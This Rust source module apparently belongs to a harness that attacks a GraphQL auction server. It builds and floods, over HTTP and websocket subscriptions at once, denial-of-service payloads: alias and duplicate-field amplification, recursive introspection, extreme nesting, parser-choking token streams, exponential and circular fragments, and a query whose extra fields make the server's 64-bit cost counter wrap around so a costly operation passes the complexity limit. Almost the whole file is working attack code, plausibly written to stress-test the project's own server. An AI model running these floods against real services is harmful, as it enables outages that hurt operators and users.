//! Documents that ask for more than they weigh.

use std::fmt::Write as _;
use std::sync::Arc;

use serde_json::{Value, json};

use super::attacker::Attacker;
use super::http::{self, Request};
use super::socket::{self, Style, subscribe};

/// What documents are made as large as: below the limits of what is written in a document, of its
/// bytes, of a body, and of a body in earlier versions. A worker keeps to one.
const SIZES: [usize; 4] = [3_800, 15_500, 120_000, 250_000];

/// A document, and which of its operations runs.
pub(super) type Document = (String, Option<&'static str>);

/// Sends these documents over HTTP and on sockets at the same time.
pub(super) fn send(attacker: &Arc<Attacker>, documents: Vec<Document>) {
    send_groups(attacker, &[documents]);
}

/// The same with documents of each size.
pub(super) fn send_sizes(attacker: &Arc<Attacker>, make: impl Fn(usize) -> Vec<Document>) {
    send_groups(attacker, &SIZES.map(make));
}

/// Each worker sends the documents of one group.
fn send_groups(attacker: &Arc<Attacker>, groups: &[Vec<Document>]) {
    let payload = |(query, name): &Document| {
        json!({ "query": query, "operationName": name, "variables": {} }).to_string()
    };
    let groups = groups.iter().map(|group| group.iter().map(payload).collect());
    let groups: Arc<Vec<Vec<String>>> = Arc::new(groups.collect());
    let pick = move |worker: usize, number: u64| {
        let group = &groups[worker % groups.len()];
        group[number as usize % group.len()].clone()
    };
    let posted = pick.clone();
    http::flood(attacker, 32, move |_, worker, number| Request {
        body: posted(worker, number),
        ..Request::default()
    });
    let style = Style { each: 8, ..Style::ASK };
    socket::flood(attacker, style, move |_, worker, number| {
        let payload = pick(worker, number);
        vec![format!(r#"{{"id":"{number}","type":"subscribe","payload":{payload}}}"#)]
    });
}

/// So many bytes of parts that `make` makes.
pub(super) fn parts(bytes: usize, make: impl Fn(usize) -> String) -> String {
    let mut text = String::with_capacity(bytes + 64);
    for number in 0.. {
        text.push_str(&make(number));
        if text.len() >= bytes {
            break;
        }
    }
    text
}

/// Appends a part.
pub(super) fn put(text: &mut String, part: std::fmt::Arguments<'_>) {
    text.write_fmt(part).expect("a String takes all");
}

/// So many parts that `make` makes.
pub(super) fn list(count: usize, make: impl Fn(usize) -> String) -> String {
    (0..count).map(make).collect::<Vec<_>>().concat()
}

/// Thousands of operations, of which one is run.
pub(super) fn operations(attacker: &Arc<Attacker>) {
    send_sizes(attacker, |bytes| {
        let many = parts(bytes, |n| format!("query q{n}{{serverTime}}"));
        vec![(many, Some("q1"))]
    });
}

/// The costliest field, as often as aliases are allowed.
pub(super) fn aliases(attacker: &Arc<Attacker>) {
    let some = |count: usize| {
        let fields = list(count, |n| format!("a{n}:auctions(first:100){{nodes{{id}}}}"));
        (format!("{{{fields}}}"), None)
    };
    send(attacker, vec![some(25), some(48), some(5_000)]);
}

/// `__typename` where nothing counts it.
pub(super) fn typenames(attacker: &Arc<Attacker>) {
    let names = "__typename ".repeat(1_900);
    let query = format!("{{auctions(first:97){{nodes{{bids(first:100){{nodes{{{names}}}}}}}}}}}");
    send(attacker, vec![(query, None)]);
}

/// One field, again and again.
pub(super) fn duplicates(attacker: &Arc<Attacker>) {
    let title = format!("{{auctions(first:100){{nodes{{{}}}}}}}", "description ".repeat(95));
    let deep = format!(
        "{{auctions(first:2){{nodes{{bids(first:2){{nodes{{{}}}}}}}}}}}",
        "id ".repeat(1_900)
    );
    send(attacker, vec![(title, None), (deep, None)]);
}

/// The schema, through every link that leads back to it.
pub(super) fn introspection(attacker: &Arc<Attacker>) {
    let mut inner = "name".to_owned();
    for _ in 0..5 {
        inner = format!("name fields{{name type{{{inner}}}}}");
    }
    let query = format!("{{__schema{{types{{{inner}}}}}}}");
    let wide = list(45, |n| format!("a{n}:__schema{{types{{name fields{{name}}}}}}"));
    send(attacker, vec![(query, None), (format!("{{{wide}}}"), None)]);
}

/// A costly operation, and a second one that is not run and brings the sum back to little.
pub(super) fn overflow(attacker: &Arc<Attacker>) {
    let ids = 150_u128;
    let costly = format!(
        "query A{{auctions(first:100){{nodes{{bids(first:100){{nodes{{{}}}}}}}}}}}",
        "id ".repeat(ids as usize)
    );
    let cost = 100 * (100 * (1 + ids) + 2) + 16;
    let query = format!("{costly} query B{{{}}}", wrapping(cost));
    send(attacker, vec![(query, Some("A"))]);
}

/// Fields whose cost, added to `cost`, is 2^64 and little more: see `complexity` in the server's
/// `graphql/query.rs`.
fn wrapping(cost: u128) -> String {
    const FIRST_MAX: u128 = i32::MAX as u128;
    let mut left = (1_u128 << 64) - cost + 1_000;
    let mut fields = String::new();
    for number in 0.. {
        // auctions: first * (1 + (1 + bids)) + 16 with bids: first * (1 + 7) + 1.
        let inner = (left / FIRST_MAX / 8).saturating_sub(1).min(FIRST_MAX);
        let each = 8 * inner + 2;
        let outer = (left.saturating_sub(16) / each).min(FIRST_MAX);
        if outer == 0 || left <= 4_000 {
            break;
        }
        left -= outer * each + 16;
        put(
            &mut fields,
            format_args!(
                "a{number}:auctions(first:{outer}){{nodes{{bids(first:{inner}){{nodes{{{}}}}}}}}}",
                "id ".repeat(7)
            ),
        );
    }
    fields
}

/// Nesting of every kind.
pub(super) fn nested(attacker: &Arc<Attacker>) {
    send_sizes(attacker, |bytes| {
        let deep = |open: &str, close: &str| {
            let count = bytes / (open.len() + close.len());
            format!("{}{}", open.repeat(count), close.repeat(count))
        };
        let selections = deep("{a", "}");
        let inline = format!("{{{}}}", deep("...{", "}"));
        let lists = format!("{{auction(id:{}){{id}}}}", deep("[", "]"));
        let objects = format!("{{auction(id:{}){{id}}}}", deep("{a:", "}"));
        let types = format!("query($a:{}){{serverTime}}", deep("[", "]"));
        // As deep as is allowed, and then broad.
        let broad = parts(bytes, |n| {
            format!("a{n}:auction(id:{}{}){{id}}", "[".repeat(25), "]".repeat(25))
        });
        let all = [selections, inline, lists, objects, types, format!("{{{broad}}}")];
        all.map(|query| (query, None)).to_vec()
    });
}

/// What a parser walks to no end.
pub(super) fn tokens(attacker: &Arc<Attacker>) {
    send_sizes(attacker, |bytes| {
        let commas = format!("{{serverTime{}}}", ",".repeat(bytes));
        let comments = format!("{}{{serverTime}}", "#\n".repeat(bytes / 2));
        let opened = "\"\"\"".repeat(bytes / 3);
        let escapes = format!("{{auction(id:\"{}\"){{id}}}}", "\\u0041".repeat(bytes / 8));
        let text = format!("{{auction(id:\"{}\"){{id}}}}", "x".repeat(bytes));
        let digits = format!("{{auctions(first:{}){{nodes{{id}}}}}}", "9".repeat(bytes));
        let brackets = "(".repeat(bytes);
        let all = [commas, comments, opened, escapes, text, digits, brackets];
        all.map(|query| (query, None)).to_vec()
    });
}

/// Fragments that double what they spread, and some in a circle.
pub(super) fn fragments(attacker: &Arc<Attacker>) {
    let chain = |count: usize| {
        let links = list(count, |n| format!("fragment f{n} on Query{{...f{0} ...f{0}}}", n + 1));
        format!("{{...f0}}{links}fragment f{count} on Query{{serverTime}}")
    };
    let circle = list(500, |n| format!("fragment f{n} on Query{{...f{}}}", (n + 1) % 500));
    let unspread = parts(15_500, |n| format!("fragment f{n} on Query{{serverTime}}"));
    let all =
        [chain(10), chain(28), format!("{{...f0}}{circle}"), format!("{{serverTime}}{unspread}")];
    send(attacker, all.map(|query| (query, None)).to_vec());
}

/// An operation as a `subscribe` message under this turn's id.
pub(super) fn message(number: u64, query: &str, variables: &Value) -> String {
    subscribe(&number.to_string(), query, variables)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The cost of `wrapping`'s fields by the rules it names.
    fn cost_of(fields: &str) -> u128 {
        let numbers: Vec<u128> = fields
            .split("first:")
            .skip(1)
            .map(|rest| rest.split(')').next().unwrap().parse().unwrap())
            .collect();
        numbers.chunks(2).map(|pair| pair[0] * (8 * pair[1] + 2) + 16).sum()
    }

    #[test]
    fn the_cost_of_an_overflowing_document_wraps_around_to_little() {
        let fields = wrapping(1_608_640);
        let sum = 1_608_640 + cost_of(&fields);
        assert!(sum >> 64 == 1 && sum % (1 << 64) < 10_000, "{}", sum % (1 << 64));
    }
}
